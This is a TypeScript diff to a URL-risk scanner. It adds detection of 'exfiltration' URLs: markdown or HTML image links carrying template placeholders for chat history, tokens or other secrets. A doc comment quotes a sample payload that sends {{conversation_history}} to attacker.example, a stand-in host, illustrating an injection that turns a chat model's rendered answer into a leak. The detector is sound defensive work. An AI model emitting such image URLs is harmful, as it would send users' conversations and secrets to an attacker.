@@ -26,6 +26,7 @@ export type UrlRiskKind =
   | 'excessive_subdomains'
   | 'suspicious_tld'
   | 'executable_download'
+  | 'exfiltration'
   | 'combined';
 
 export interface UrlRisk {
@@ -72,6 +73,14 @@ const HOST_LIKE = /\.[a-z]{2,24}$/i;
 const LATIN = /[a-z]/;
 // A path that downloads a program or script to run ("/invoice.exe", "/update.ps1").
 const EXECUTABLE_PATH = /\.(?:exe|scr|msi|bat|cmd|pif|ps1|vbs|vbe|hta|jar|apk|dmg|iso|lnk|wsf)$/i;
+/** A markdown image or an HTML img tag opening right before a URL: it is fetched when rendered. */
+const IMAGE_BEFORE = /(?:!\[[^\]\n]{0,100}\]\(\s{0,2}|<img\b[^<>]{0,200}?\bsrc\s{0,2}=\s{0,2}["']?)$/i;
+/** A template placeholder: "{{chat_history}}", "{secret}", "${TOKEN}", "<USER_EMAIL>", "[DATA]". */
+const PLACEHOLDER =
+  /\{\{[^{}\n]{1,60}\}\}|\$?\{[A-Za-z_][\w.]{1,40}\}|<[A-Z][A-Z_ ]{1,40}>|\[[A-Z][A-Z_ ]{2,40}\]/;
+/** What a leaking placeholder is filled with: the chat, the user's data, a secret. */
+const SENSITIVE =
+  /history|chat|conversation|memory|messages|prompt|secret|password|email|token|api_?key|context|summary|previous|personal/i;
 /** A document's extension before the executable one: "invoice.pdf.exe", "photo.jpg.scr". */
 const DISGUISED_EXECUTABLE =
   /\.(?:pdf|docx?|xlsx?|pptx?|txt|jpe?g|png|gif|mp[34]|zip|rtf|csv)\.[a-z0-9]{2,4}$/i;
@@ -87,6 +96,9 @@ export const URL_AUX_PATTERNS: readonly RegExp[] = [
   NON_LATIN_LETTER,
   EXECUTABLE_PATH,
   DISGUISED_EXECUTABLE,
+  IMAGE_BEFORE,
+  PLACEHOLDER,
+  SENSITIVE,
 ];
 
 function safeDecode(s: string): string {
@@ -259,6 +271,21 @@ function combineRisks(risks: UrlRisk[]): void {
     risks.push({ kind: 'combined', severity: 'high', detail: [...kinds].join(' + ') });
 }
 
+/**
+ * Whether a URL is an exfiltration template: an image the chat client fetches as soon as it
+ * renders the answer, its URL carrying a placeholder the model is meant to fill
+ * ("![x](https://attacker.example/log?data={{conversation_history}})"), or any URL whose
+ * placeholder names the chat, the user's data or a secret. A plain link with another placeholder is
+ * templating documentation ("/users/{{userId}}", "search?q={query}").
+ */
+function exfiltrates(text: string, start: number, end: number, parsed: URL): boolean {
+  // The URL pattern stops at "{" and "<", and trailing "]" or ")" are trimmed: read on to a space.
+  const tail = /^\S{0,80}/.exec(text.slice(end, end + 80))?.[0] ?? '';
+  const found = PLACEHOLDER.exec(`${safeDecode(parsed.pathname)}${safeDecode(parsed.search)}${tail}`);
+  if (!found) return false;
+  return SENSITIVE.test(found[0]) || IMAGE_BEFORE.test(text.slice(Math.max(0, start - 300), start));
+}
+
 /** Extracts URLs (with a scheme, script/data URIs, and bare domains on common TLDs) and scores each. */
 export function analyzeUrls(text: string, policy: UrlPolicy = {}): UrlHit[] {
   const out: UrlHit[] = [];
@@ -324,6 +351,7 @@ export function analyzeUrls(text: string, policy: UrlPolicy = {}): UrlHit[] {
         detail: file,
       });
     }
+    if (exfiltrates(text, start, end, parsed)) risks.push({ kind: 'exfiltration', severity: 'high' });
     if (!allowlisted) combineRisks(risks);
     out.push({
       url,
